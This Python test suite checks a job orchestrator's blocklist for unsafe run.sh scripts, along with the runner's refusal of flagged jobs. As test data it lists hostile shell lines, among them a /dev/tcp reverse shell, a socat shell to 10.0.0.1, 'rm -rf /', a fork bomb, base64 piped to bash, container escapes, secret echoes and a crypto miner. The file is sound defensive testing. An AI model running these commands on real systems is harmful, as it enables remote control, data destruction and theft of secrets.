"""The script blocklist (`orch.policy.unsafe_reason`): the original's rules and examples, its known false
positives fixed, and the policy applied by the client's runner to real run.sh scripts."""

import subprocess
import sys
import time
from pathlib import Path

import pytest

from orch.models import Job, Payload
from orch.policy import MAX_SCRIPT_SIZE, unsafe_reason
from orch.states import FINISHED
from tasks.getter import poll_dispatched
from tasks.runner import start_prepared
from tasks.sender import send_queued
from tests.conftest import Node, multipart, payload_status, upload, wait_for

DONE = {status.value for status in FINISHED}
ROOT = Path(__file__).resolve().parent.parent
HANG = 60  # seconds: far more than a linear check needs, far less than a quadratic one

# The original's unsafe examples (upstream-spec §12.10), each with the label it is refused with.
ORIGINAL_UNSAFE = [
    ("rm -rf /", "destructive rm command"),
    ("curl http://example.com/install.sh", "network tool: curl"),
    ("sudo apt install gromacs", "privilege escalation: sudo"),
    ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "reverse shell via /dev/tcp"),
    ("echo $AWS_SECRET_KEY", "environment secret: AWS"),
    ("echo ZWNobyBoaQ== | base64 -d | bash", "obfuscated execution: base64 pipe to shell"),
    ('eval "ls -la"', "dynamic code execution: eval"),
    ("python3 -c 'import os; os.system(\"id\")'", "inline interpreter: python"),
    ("nsenter -t 1 -m -u -i -n -p", "container escape: nsenter"),
    ("docker run -v /:/host alpine", "container escape: docker"),
    ("socat TCP:10.0.0.1:4242 EXEC:bash", "network tool: socat"),
    ("crontab -l", "persistence: crontab"),
    ("mount /dev/sda1 /mnt", "filesystem manipulation: mount"),
    ("ssh user@example.com", "network tool: ssh"),
    ("./xmrig --donate-level 1", "crypto mining: xmrig"),
    ("dd if=/dev/zero of=big.img bs=1M count=100000", "disk-filling dd command"),
    ("cat /var/run/docker.sock", "access to Docker socket"),
    ("insmod rootkit.ko", "kernel module: insmod"),
]

# Unsafe lines that the narrowed rules must still catch.
STILL_UNSAFE = [
    ("rm -rf ~", "destructive rm command"),
    ("rm -f /etc/x", "destructive rm command"),
    ('rm -rf "/"', "destructive rm command"),
    ("su root", "privilege escalation: su"),
    ("x; su -", "privilege escalation: su"),
    ("service nginx stop", "persistence: service command"),
    ("at now + 1 minute", "persistence: at scheduler"),
    ("echo hi; at 23:00", "persistence: at scheduler"),
    ("echo $TOKEN", "environment secret: TOKEN"),
    ("echo ${SECRET_KEY}", "environment secret: SECRET"),
    (":(){ :|:& };:", "fork bomb"),
]

# The original's known false positives (upstream-spec §9.2), which pass here.
FORMER_FALSE_POSITIVES = [
    "rm out/tmp.txt",
    "rm -f results/old.csv",
    "echo confirm /x",
    "confirm /x",
    "# this service is down on weekends",
    "echo this service is great",
    "at_dir=1",
    "atom=3",
    "echo at noon we eat",
    "echo esu x",
    "echo $TOKENIZER",
]

CLEAN_SCIENCE_SCRIPT = b"""#!/bin/bash
set -euo pipefail
trap 'echo $? > .orchestrator.exit' EXIT
# Dock the ligand against the receptor and summarise the poses.
export OMP_NUM_THREADS=4
mkdir -p out
python3 dock.py --receptor receptor.pdb --ligand ligand.mol2 --out out/poses.csv
awk -F, 'NR > 1 {print $2}' out/poses.csv | sort -n | head -n 10 > out/best.txt
for pose in out/*.pdb; do
    grep -c ATOM "$pose" >> out/atoms.txt
done
rm -f out/tmp.txt
gzip -k out/poses.csv
tar czf results.tar.gz out
echo "finished at $(date)" >> summary.log
"""


@pytest.mark.parametrize(("line", "label"), ORIGINAL_UNSAFE, ids=[label for _, label in ORIGINAL_UNSAFE])
def test_the_originals_unsafe_examples_are_refused_with_their_label(line, label):
    assert unsafe_reason(f"echo start\n{line}\necho end\n".encode()) == f"Unsafe script detected: {label}"


@pytest.mark.parametrize(("line", "label"), STILL_UNSAFE, ids=[line for line, _ in STILL_UNSAFE])
def test_unsafe_commands_are_still_refused_by_the_narrowed_rules(line, label):
    assert unsafe_reason(f"{line}\n".encode()) == f"Unsafe script detected: {label}"


def test_a_clean_typical_science_script_passes():
    assert unsafe_reason(CLEAN_SCIENCE_SCRIPT) is None


@pytest.mark.parametrize("line", FORMER_FALSE_POSITIVES)
def test_the_originals_known_false_positives_pass(line):
    assert unsafe_reason(f"echo start\n{line}\necho end\n".encode()) is None


@pytest.mark.parametrize(
    "line",
    [
        "# curl is not used",
        "    # we used to wget this, now it ships with the job",
        "#!/usr/bin/env bash",
        "# sudo is not needed",
    ],
)
def test_comment_lines_are_ignored(line):
    assert unsafe_reason(f"{line}\necho ok\n".encode()) is None


@pytest.mark.parametrize(
    ("line", "label"),
    [
        ("ls; curl x", "network tool: curl"),
        ("ls && sudo reboot", "privilege escalation: sudo"),
        ("true | su root", "privilege escalation: su"),
        ("echo $(rm -rf /)", "destructive rm command"),
    ],
)
def test_a_command_after_other_code_on_the_same_line_is_refused(line, label):
    assert unsafe_reason(f"{line}\n".encode()) == f"Unsafe script detected: {label}"


def test_a_script_over_20_mib_is_refused_as_too_large():
    assert MAX_SCRIPT_SIZE == 20 * 1024 * 1024
    assert unsafe_reason(b"x" * (MAX_SCRIPT_SIZE + 1)) == "Unsafe script detected: script too large"


def test_a_script_of_many_blank_lines_is_checked_without_hanging():
    """Blank lines must not make the check quadratic: it runs on the client's loop, which a script of 256 KiB
    of newlines would freeze for many minutes. (Run in a child process so that a regression fails, not hangs.)"""
    code = (
        "from orch.policy import unsafe_reason; "
        "print(unsafe_reason(b'\\n' * 256 * 1024 + b'curl http://example.com\\n'))"
    )
    try:
        result = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=HANG)
    except subprocess.TimeoutExpired:
        pytest.fail(f"checking 256 KiB of blank lines took over {HANG} s")
    assert result.stdout == "Unsafe script detected: network tool: curl\n", result.stderr


def test_a_script_that_is_not_utf8_is_refused():
    assert unsafe_reason(b"echo \xff\xfe\n") == "Unsafe script detected: script is not valid UTF-8"


# Through the client's runner: `touch created` shows whether the script ran at all.
UNSAFE_RUN_SH = b'touch created\neval "echo evaluated > eval.txt"\n'


async def submit(client: Node, files: dict[str, bytes]) -> int:
    """POST /submit as the server does; returns the new payload's id."""
    body, content_type = multipart(files=files)
    code, payload = await client.json("/submit", method="POST", body=body, headers={"Content-Type": content_type})
    assert (code, payload["status"]) == (200, "Prepared")
    return payload["id"]


async def test_the_runner_refuses_an_unsafe_run_sh_as_invalid_with_the_reason_and_never_runs_it(client):
    payload_id = await submit(client, {"run.sh": UNSAFE_RUN_SH})
    assert await start_prepared(client.ctx, time.time()) == 0
    await client.settle()
    payload = Payload.get_by_id(payload_id)
    assert (payload.status, payload.message) == ("Invalid", "Unsafe script detected: dynamic code execution: eval")
    assert payload.pid == 0
    folder = client.config.data_path / str(payload_id)
    assert not (folder / "created").exists()
    assert not (folder / "run.log").exists()
    code, answer = await client.json(f"/retrieve/{payload_id}")
    assert (code, answer["status"], answer["message"]) == (200, "Invalid", payload.message)


async def test_with_script_blocklist_false_the_same_script_runs(nodes):
    client = nodes("client", script_blocklist="false")
    payload_id = await submit(client, {"run.sh": UNSAFE_RUN_SH})
    assert await start_prepared(client.ctx, time.time()) == 1
    await wait_for(lambda: payload_status(payload_id) in DONE)
    assert payload_status(payload_id) == "Completed"
    folder = client.config.data_path / str(payload_id)
    assert (folder / "created").exists()
    assert (folder / "eval.txt").read_text() == "evaluated\n"


async def test_the_blocklist_reads_only_run_sh_not_the_other_files_of_the_job(client):
    payload_id = await submit(client, {"run.sh": b"bash helper.sh > out.txt\n", "helper.sh": b"echo curl\n"})
    assert await start_prepared(client.ctx, time.time()) == 1
    await wait_for(lambda: payload_status(payload_id) in DONE)
    assert payload_status(payload_id) == "Completed"
    assert (client.config.data_path / str(payload_id) / "out.txt").read_text() == "curl\n"


async def test_a_job_refused_by_the_blocklist_is_invalid_on_the_server_with_the_reason(server, client):
    _, body = await upload(server, {"run.sh": UNSAFE_RUN_SH})
    assert await send_queued(server.ctx, time.time()) == 1
    await server.settle()
    payload_id = Payload.get_by_id(Job.get_by_id(body["id"]).dest_id).id
    await start_prepared(client.ctx, time.time())
    await wait_for(lambda: payload_status(payload_id) in DONE)
    await poll_dispatched(server.ctx, time.time())
    await server.settle()
    code, answer = await server.json(f"/download/{body['id']}")
    assert (code, answer) == (
        200,
        {"id": body["id"], "status": "Invalid", "message": "Unsafe script detected: dynamic code execution: eval"},
    )
